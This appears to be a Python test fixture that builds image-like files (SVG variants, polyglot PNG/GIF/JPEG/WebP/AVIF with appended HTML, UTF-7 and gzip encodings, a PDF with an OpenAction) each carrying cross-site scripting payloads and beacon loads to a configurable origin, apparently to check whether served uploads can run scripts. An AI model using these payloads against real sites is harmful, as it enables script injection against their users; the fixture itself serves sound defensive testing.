"""Files that would run a script, or load something, when a browser trusted them as pictures."""

from __future__ import annotations

import base64
import gzip
import struct
import zlib

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = "http://www.w3.org/1999/xhtml"
# What each file tries: to reach the page around it, to ask the user, and to load something.
CODE = (
    "try{top.hacked=1}catch(e){}try{parent.hacked=1}catch(e){}"
    "try{alert(&quot;hacked&quot;)}catch(e){}new Image().src=&quot;OTHER/hacked?CODE&quot;"
)


def _drawn(inside: str, *, before: str = "", attributes: str = "") -> str:
    sizes = 'width="100" height="100" viewBox="0 0 100 100"'
    box = '<rect width="100" height="100" fill="green"/>'
    return f"{before}<svg {SVG} {sizes} {attributes}>{box}{inside}</svg>"


_SCRIPT = CODE.replace("&quot;", '"')
_ENCODED = base64.b64encode(_SCRIPT.encode()).decode()
_QUOTED = _SCRIPT.replace('"', "&#34;")
_COVER = '<rect width="100" height="100" opacity="0"/>'
_FOREIGN = f'<foreignObject width="100" height="100"><div xmlns="{XHTML}">'
_END = "</div></foreignObject>"
_NESTED = base64.b64encode(_drawn(f'<script id="x">{_SCRIPT}</script>').encode()).decode()
_SHEET = base64.b64encode(
    b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    b'<xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>'
    + _SCRIPT.encode()
    + b"</script></html></xsl:template></xsl:stylesheet>"
).decode()

# These run when they are served as SVG without further headers.
RUNNING = {
    "script": _drawn(f"<script>{_SCRIPT}</script>"),
    "script in CDATA": _drawn(f"<script><![CDATA[{_SCRIPT}]]></script>"),
    "script with a data address": _drawn(
        f'<script xlink:href="data:text/javascript;base64,{_ENCODED}"/>'
    ),
    "script of XHTML": _drawn(f'<h:script xmlns:h="{XHTML}">{_SCRIPT}</h:script>'),
    "script with a prefix": (
        '<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9">'
        f"<s:script>{_SCRIPT}</s:script></s:svg>"
    ),
    "onload": _drawn("", attributes=f'onload="{CODE}"'),
    "onclick": _drawn(f'<g onclick="{CODE}">{_COVER}</g>'),
    "onmouseover": _drawn(f'<g onmouseover="{CODE}">{_COVER}</g>'),
    "onerror of an image": _drawn(f'<image href="data:x," onerror="{CODE}" width="9" height="9"/>'),
    "onbegin": _drawn(f'<animate attributeName="x" dur="1s" onbegin="{CODE}"/>'),
    "javascript link": _drawn(f'<a href="javascript:{CODE}">{_COVER}</a>'),
    "javascript xlink": _drawn(f'<a xlink:href="java&#x0A;script:{CODE}">{_COVER}</a>'),
    "animated link": _drawn(
        f'<a>{_COVER}<set attributeName="href" to="javascript:{CODE}" begin="0s"/></a>'
    ),
    "foreign img": _drawn(f'{_FOREIGN}<img src="data:x," onerror="{CODE}"/>{_END}'),
    "foreign frame": _drawn(f'{_FOREIGN}<iframe srcdoc="&lt;script>{CODE}&lt;/script>"/>{_END}'),
    "foreign details": _drawn(f'{_FOREIGN}<details open="" ontoggle="{CODE}"/>{_END}'),
    "foreign script": _drawn(f"{_FOREIGN}<script>{_SCRIPT}</script>{_END}"),
    "entity": _drawn(
        "&x;",
        before='<!DOCTYPE svg [<!ENTITY x \'<script xmlns="http://www.w3.org/2000/svg">'
        f"{_QUOTED}</script>'>]>",
    ),
    "style that loads": _drawn('<style>@import "OTHER/hacked?STYLE";</style>'),
    "image that loads": _drawn('<image href="OTHER/hacked?IMAGE" width="9" height="9"/>'),
    "refresh": _drawn(
        f'<h:meta xmlns:h="{XHTML}" http-equiv="refresh" content="0;url=OTHER/hacked?REFRESH"/>'
    ),
    "style sheet instruction": _drawn(
        "", before='<?xml-stylesheet type="text/css" href="OTHER/hacked?SHEET"?>'
    ),
}
# These run in some browsers, or in none today.
OTHERS = {
    "transformation": _drawn(
        "", before=f'<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,{_SHEET}"?>'
    ),
    "use of a data address": _drawn(f'<use href="data:image/svg+xml;base64,{_NESTED}#x"/>'),
    "image of a data address": _drawn(
        f'<image href="data:image/svg+xml;base64,{_NESTED}" width="90" height="90"/>'
    ),
    "handler": _drawn(
        f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{_SCRIPT}</handler>'
    ),
    "external entity": _drawn(
        "<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "OTHER/hacked?ENTITY">]>'
    ),
    "HTML before": f"<!doctype html><script>{_SCRIPT}</script>{_drawn('')}",
    "HTML after": f"{_drawn('')}<script>{_SCRIPT}</script>",
    "HTML in a comment": _drawn("", before=f"<!--><script>{_SCRIPT}</script><!-->"),
    "font that loads": _drawn(
        "<style>@font-face{font-family:a;src:url(OTHER/hacked?FONT)}text{font-family:a}</style>"
        "<text>a</text>"
    ),
    "filter that loads": _drawn('<rect filter="url(OTHER/hacked?FILTER#a)" width="9" height="9"/>'),
}
_HTML = f"<!doctype html><html><body onload='{_SCRIPT}'><script>{_SCRIPT}</script>"


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(*more: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + pixels + _chunk(b"IEND", b"")


def files(other: str) -> dict[str, bytes]:
    """Return each file by its name. `other` is the origin that they try to load from."""
    svg = {name: text.replace("OTHER", other) for name, text in {**RUNNING, **OTHERS}.items()}
    html = _HTML.replace("OTHER", other).encode()
    script = _SCRIPT.replace("OTHER", other).encode()
    gif = b"GIF89a=1/*\0\0\0\0*/;" + script
    return {
        **{name: text.encode() for name, text in svg.items()},
        "UTF-16": svg["script"].encode("utf-16"),
        "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>' + svg["script"].encode("utf-7"),
        "compressed": gzip.compress(svg["script"].encode()),
        "HTML": html,
        "HTML with a BOM": b"\xef\xbb\xbf" + html,
        "XHTML": f'<html xmlns="{XHTML}"><script>{script.decode()}</script></html>'.encode(),
        "PDF": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "script that is a GIF": gif,
        "PNG, then HTML": _png() + html,
        "PNG with HTML in it": _png(_chunk(b"tEXt", b"Comment\0" + html)),
        "GIF, then HTML": b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;" + html,
        "JPEG of HTML": b"\xff\xd8\xff\xfe\x20\x00" + html,
        "WebP of HTML": b"RIFF\x20\0\0\0WEBPVP8 " + html,
        "AVIF of HTML": b"\0\0\0\x1cftypavif\0\0\0\0avif" + html,
    }
